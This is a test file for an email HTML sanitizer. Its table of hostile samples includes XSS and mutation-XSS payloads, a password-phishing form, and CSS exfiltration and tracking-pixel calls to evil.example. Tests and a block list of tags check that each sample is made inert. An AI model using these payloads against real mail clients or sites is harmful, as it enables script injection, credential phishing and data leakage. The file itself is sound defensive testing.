import createPurify from 'dompurify'
import { JSDOM } from 'jsdom'
import { expect, test } from 'vitest'
import { fitsFrame, inertHtml } from '~/features/conversation/timeline/mail/inert'
import { picturesIn } from '~/features/conversation/timeline/mail/pictures'
import { sheet } from '~/features/conversation/timeline/mail/sheet'

const window = new JSDOM('').window
const purify = createPurify(window)
const PIXEL = 'data:image/png;base64,iVBORw0KGgo='
const inert = (html: string, pictures: [string, string][] = []) => inertHtml(purify, html, new Map(pictures))
const bodyOf = (html: string) => new JSDOM(inert(html).html).window.document.body

const hostile = {
  script: '<p>a</p><script>alert(1)</script>',
  handler: '<p onclick="alert(1)" onmouseover=alert(1)>a</p>',
  'javascript link': '<a href="javascript:alert(1)">a</a><a href=" jav&#x09;ascript:alert(1)">b</a>',
  'data link': '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  svg: '<svg onload=alert(1)><script>alert(1)</script><use href="#x"/></svg>',
  math: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  form: '<form action="https://evil.example/"><input name=password><button>Sign in</button></form>',
  frame: '<iframe src="https://evil.example/"></iframe><object data="https://evil.example/"></object><embed src="https://evil.example/">',
  style: '<style>@import url(https://evil.example/a.css); input[value^=a]{background:url(https://evil.example/a)}</style>',
  'style attribute': '<p style="background:url(https://evil.example/p.gif)">a</p><p style="background-image:u\\72l(//evil.example/p)">b</p>',
  overlay: '<div style="position:fixed;inset:0;z-index:9999">Session expired</div>',
  base: '<base href="https://evil.example/"><a href="/x">a</a>',
  refresh: '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  link: '<link rel="stylesheet" href="https://evil.example/a.css"><link rel="dns-prefetch" href="//evil.example">',
  pixel: '<img src="https://evil.example/pixel.gif" width=1 height=1><img srcset="https://evil.example/a 2x"><table background="https://evil.example/b"></table>',
  media: '<video poster="https://evil.example/a"><source src="https://evil.example/b"></video><audio src="https://evil.example/c"></audio>',
  'svg picture': '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  'mutation': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  template: '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  clobbering: '<img name=getElementById><a id=attributes href="https://good.example/">good.example</a>',
}

test.each(Object.entries(hostile))('hostile %s is inert', (_, html) => {
  const body = bodyOf(html)
  const all = [...body.querySelectorAll('*')]
  const names = new Set(all.map((element) => element.tagName.toLowerCase()))
  for (const bad of ['script', 'style', 'svg', 'math', 'form', 'input', 'button', 'iframe', 'object', 'embed', 'base', 'meta', 'link', 'video', 'audio', 'source', 'template']) expect(names.has(bad), bad).toBe(false)
  for (const element of all) {
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on|^srcset$|^background$|^action$|^poster$|^id$|^name$|^class$/)
      if (name === 'src') expect(value).toMatch(/^data:image\/(png|jpeg|gif|webp)/)
      if (name === 'style') expect(value).not.toMatch(/url|position/i)
      if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:|tel:)/)
    }
  }
})

test('pictures from outside stay off and are counted', () => {
  const { html, remote } = inert('<img data-remote-src="https://a.example/1.png" alt="Logo"><img src="http://a.example/2.png"><p>x</p>')
  expect(remote).toEqual(['https://a.example/1.png', 'http://a.example/2.png'])
  expect(html).not.toContain('a.example')
  expect(html).toContain('alt="Logo"')
})

test('pictures of the mail are put in as data, whatever their id is written like', () => {
  const { html, remote } = inert('<img src="cid:logo@x"><img src="CID:a%20b"><img src="cid:missing" alt="gone">', [['logo@x', PIXEL], ['a b', PIXEL]])
  expect(html.split(PIXEL)).toHaveLength(3)
  expect(html).toContain('<img alt="gone">')
  expect(remote).toEqual([])
})

test('a link says where it goes when its words do not', () => {
  expect(inert('<a href="https://evil.example/login">www.bank.example</a>').html).toContain('</a><span> [evil.example]</span>')
  expect(inert('<a href="https://good.example/x">good.example/x</a>').html).not.toContain('[')
  expect(inert('<a href="mailto:a@b.example">Write to us</a>').html).toContain('[a@b.example]')
  const link = bodyOf('<a href="https://good.example/">good.example</a>').querySelector('a')!
  expect([link.target, link.rel, link.title]).toEqual(['_blank', 'noopener noreferrer nofollow', 'https://good.example/'])
})

test('the layout of an honest mail stays', () => {
  const html = '<table width="600"><tbody><tr><td style="color:navy;padding:4px">Hello <b>you</b></td></tr></tbody></table>'
  expect(inert(html).html).toBe(html)
})

test('what would hold up the desk is not cleaned at all', () => {
  expect(fitsFrame('<p>short</p>')).toBe(true)
  expect(fitsFrame('x'.repeat(5_000_000))).toBe(false)
  expect(fitsFrame('<b>'.repeat(50_000))).toBe(false)
})

test('only pictures that the mail shows are fetched, and not more than fit', () => {
  const file = (name: string, change = {}) => ({ id: name, name, mediaType: 'image/png', bytes: 10, contentId: name, ...change })
  const files = [file('a'), file('b', { contentId: null }), file('c', { mediaType: 'image/svg+xml' }), file('d', { bytes: 9_000_000 })]
  expect(picturesIn('<img src="cid:a">', files).map(({ id }) => id)).toEqual(['a'])
  expect(picturesIn('<p>none</p>', files)).toEqual([])
})

test('the page in the frame may fetch nothing, and its title is text', () => {
  const page = new JSDOM(sheet('<p>x</p>', '</title><script>alert(1)</script>')).window.document
  expect(page.querySelector('script')).toBeNull()
  expect(page.querySelector('meta[http-equiv]')?.getAttribute('content')).toBe("default-src 'none'; style-src 'unsafe-inline'; img-src data:")
})

test('a picture that the server fetched stands in the place of its address, and no other does', () => {
  const address = 'https://a.example/1.png?a=1&b=2'
  const { html, remote } = inert('<img data-remote-src="https://a.example/1.png?a=1&amp;b=2"><img data-remote-src="https://a.example/2.png">', [[address, PIXEL]])
  expect(html).toContain(PIXEL)
  expect(html).not.toContain('a.example')
  expect(remote).toEqual(['https://a.example/2.png'])
})
